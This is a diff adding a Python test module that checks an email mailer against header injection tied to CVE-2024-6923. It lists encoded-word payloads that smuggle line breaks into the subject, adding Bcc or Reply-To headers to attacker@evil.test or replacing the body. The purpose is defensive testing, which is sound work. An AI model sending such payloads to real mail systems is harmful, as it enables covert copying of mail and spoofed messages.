@@ -1,0 +1,52 @@
+"""What the probe of issue 24 sent, and the one check of a delivered message: exactly the headers
+the mailer writes, no Reply-To or Bcc anywhere, the literal subject and the template's bodies.
+
+Each injection is an RFC 2047 encoded word (or two) that decodes to a line break: Pythons
+without the fix for CVE-2024-6923 (3.11.7 here) wrote the decoded break out, adding a header
+or, with a blank line, replacing the body."""
+
+from __future__ import annotations
+
+import base64
+from email.message import EmailMessage
+
+from agency.core.text import is_line
+
+INJECTIONS = {
+    "q-crlf-reply-to": "=?utf-8?q?x=0D=0AReply-To:_attacker@evil.test?=",
+    "q-blank-line-body": "=?utf-8?q?x=0D=0A=0D=0AYour_account_is_closed.?=",
+    "b-crlf-bcc": "=?utf-8?b?" + base64.b64encode(b"x\r\nBcc: attacker@evil.test").decode() + "?=",
+    "q-lone-lf": "=?utf-8?q?x=0ABcc:_attacker@evil.test?=",
+    "q-lone-cr": "=?utf-8?q?x=0DReply-To:_attacker@evil.test?=",
+    "split-latin1": "=?iso-8859-1?q?x=0D?= =?iso-8859-1?q?=0AReply-To:_attacker@evil.test?=",
+}
+
+# The headers of every message the mailer writes (all templates have a text and an HTML body).
+TOP_HEADERS = ["content-type", "from", "message-id", "mime-version", "subject", "to"]
+PART_HEADERS = {"content-type", "content-transfer-encoding", "mime-version"}
+
+
+def body_of(part: EmailMessage) -> str:
+    return str(part.get_content()).replace("\r\n", "\n")
+
+
+def assert_exactly(
+    message: EmailMessage, *, to: str, subject: str, text: str, html: str | None
+) -> None:
+    """`message` (as the SMTP server received it) carries exactly the mailer's headers with
+    these values and these bodies, and nothing an injection would have added."""
+    assert sorted(name.lower() for name in message) == TOP_HEADERS
+    assert str(message["To"]) == to
+    assert str(message["Subject"]) == subject
+    assert is_line(str(message["Subject"]), 1000)
+    assert message.get_content_type() == "multipart/alternative"
+    parts = list(message.iter_parts())
+    assert [part.get_content_type() for part in parts] == ["text/plain", "text/html"]
+    for part in parts:
+        assert {name.lower() for name in part} <= PART_HEADERS
+    assert body_of(parts[0]) == text  # type: ignore[arg-type]
+    assert body_of(parts[1]) == html  # type: ignore[arg-type]
+    for part in message.walk():
+        assert not {name.lower() for name in part} & {"reply-to", "bcc", "cc"}
+        for name, value in part.items():
+            assert is_line(str(value), 10_000), (name, value)
